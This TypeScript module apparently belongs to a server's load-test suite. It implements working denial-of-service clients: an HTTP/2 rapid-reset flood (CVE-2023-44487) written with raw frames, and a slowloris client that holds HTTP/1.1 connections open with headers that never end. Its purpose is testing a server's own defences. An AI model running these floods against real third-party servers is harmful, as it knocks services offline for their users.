// Clients that abuse a server, for the load test and benchmark: slowloris (HTTP/1.1 requests whose
// headers never finish) and HTTP/2 rapid reset (CVE-2023-44487: HEADERS then RST_STREAM at once, as
// fast as the socket takes them). The rapid-reset client speaks raw HTTP/2 frames: node:http2's client
// would queue streams behind SETTINGS_MAX_CONCURRENT_STREAMS, which is exactly what an attacker does
// not do.
import tls from "node:tls";

export interface AbuseStats {
  /** Connections opened. */
  connections: number;
  /** Slowloris: connections the server closed. Rapid reset: GOAWAY frames received, by error code. */
  closedByServer: number;
  goawayCodes: Record<string, number>;
  /** Rapid reset: streams opened and reset. */
  streams: number;
}

export interface Abuser {
  /** The counts so far. */
  stats(): AbuseStats;
  stop(): Promise<AbuseStats>;
}

const PREFACE = Buffer.from("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n");
const FRAME_HEADERS = 0x1;
const FRAME_RST_STREAM = 0x3;
const FRAME_SETTINGS = 0x4;
const FRAME_GOAWAY = 0x7;
const CANCEL = 0x8;

function frame(type: number, flags: number, streamId: number, payload: Buffer): Buffer {
  const b = Buffer.alloc(9 + payload.length);
  b.writeUIntBE(payload.length, 0, 3);
  b[3] = type;
  b[4] = flags;
  b.writeUInt32BE(streamId & 0x7fffffff, 5);
  payload.copy(b, 9);
  return b;
}

// HPACK, static table only: :method GET (2), :scheme https (7), :path / (4), and :authority as a
// literal without indexing (name index 1).
function headerBlock(authority: string): Buffer {
  const value = Buffer.from(authority);
  return Buffer.concat([Buffer.from([0x82, 0x87, 0x84, 0x01, value.length]), value]);
}

/** Floods one connection after another with HEADERS + RST_STREAM pairs until stopped. */
export function rapidReset(host: string, port: number, opts: { streamsPerConnection?: number } = {}): Abuser {
  const perConnection = opts.streamsPerConnection ?? 20_000;
  const stats: AbuseStats = { connections: 0, closedByServer: 0, goawayCodes: {}, streams: 0 };
  const block = headerBlock(`${host}:${port}`);
  const rst = Buffer.alloc(4);
  rst.writeUInt32BE(CANCEL);
  let stopped = false;
  let current: tls.TLSSocket | undefined;
  let done: () => void = () => {};
  const finished = new Promise<void>((r) => {
    done = r;
  });

  const connect = (): void => {
    if (stopped) {
      done();
      return;
    }
    stats.connections++;
    const socket = tls.connect({ host, port, ALPNProtocols: ["h2"], rejectUnauthorized: false });
    current = socket;
    let goaway = false;
    let pending = Buffer.alloc(0);
    socket.on("data", (d: Buffer) => {
      pending = Buffer.concat([pending, d]);
      while (pending.length >= 9) {
        const length = pending.readUIntBE(0, 3);
        if (pending.length < 9 + length) break;
        if (pending[3] === FRAME_GOAWAY && length >= 8) {
          const code = String(pending.readUInt32BE(9 + 4));
          stats.goawayCodes[code] = (stats.goawayCodes[code] ?? 0) + 1;
          goaway = true;
        }
        pending = pending.subarray(9 + length);
      }
    });
    socket.on("error", () => {});
    socket.on("close", () => {
      if (goaway) stats.closedByServer++;
      setTimeout(connect, 100);
    });
    socket.once("secureConnect", () => {
      socket.write(Buffer.concat([PREFACE, frame(FRAME_SETTINGS, 0, 0, Buffer.alloc(0))]));
      socket.write(frame(FRAME_SETTINGS, 0x1, 0, Buffer.alloc(0)));
      let id = 1;
      const burst = (): void => {
        if (stopped || goaway || socket.destroyed || id > perConnection * 2) {
          socket.end();
          return;
        }
        const frames: Buffer[] = [];
        for (let i = 0; i < 100; i++, id += 2) {
          frames.push(frame(FRAME_HEADERS, 0x5, id, block), frame(FRAME_RST_STREAM, 0, id, rst));
          stats.streams++;
        }
        if (socket.write(Buffer.concat(frames))) setImmediate(burst);
        else socket.once("drain", burst);
      };
      burst();
    });
  };
  connect();
  return {
    stats: () => stats,
    stop: async () => {
      stopped = true;
      current?.destroy();
      await finished;
      return stats;
    },
  };
}

/**
 * Keeps `connections` HTTP/1.1 connections each sending a request whose headers never end (one more
 * header line every few seconds); a connection the server closes is replaced.
 */
export function slowloris(host: string, port: number, connections: number): Abuser {
  const stats: AbuseStats = { connections: 0, closedByServer: 0, goawayCodes: {}, streams: 0 };
  const open = new Set<tls.TLSSocket>();
  let stopped = false;
  const connect = (): void => {
    if (stopped) return;
    stats.connections++;
    const socket = tls.connect({ host, port, ALPNProtocols: ["http/1.1"], rejectUnauthorized: false });
    open.add(socket);
    let timer: NodeJS.Timeout | undefined;
    socket.once("secureConnect", () => {
      socket.write(`GET /readyz HTTP/1.1\r\nHost: ${host}\r\n`);
      timer = setInterval(() => socket.write(`X-Slow-${Date.now()}: a\r\n`), 3000);
    });
    socket.on("error", () => {});
    socket.on("close", () => {
      clearInterval(timer);
      open.delete(socket);
      if (stopped) return;
      stats.closedByServer++;
      setTimeout(connect, 100);
    });
  };
  for (let i = 0; i < connections; i++) connect();
  return {
    stats: () => stats,
    stop: async () => {
      stopped = true;
      for (const s of open) s.destroy();
      return stats;
    },
  };
}
